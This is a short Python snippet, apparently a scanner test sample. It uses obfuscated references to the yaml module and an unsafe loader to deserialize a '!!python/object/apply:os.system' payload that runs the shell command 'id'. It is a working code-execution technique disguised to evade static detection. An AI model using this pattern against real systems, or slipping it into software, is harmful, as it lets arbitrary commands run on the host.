import yaml

class Mine(next(iter((yaml,))).constructor.UnsafeConstructor, next(iter((yaml,))).SafeLoader):
    pass

class L(next(iter((yaml,))).UnsafeLoader):
    pass
next(iter((yaml,))).load_all("!!python/object/apply:os.system ['id>pf']", Loader=L).__next__()
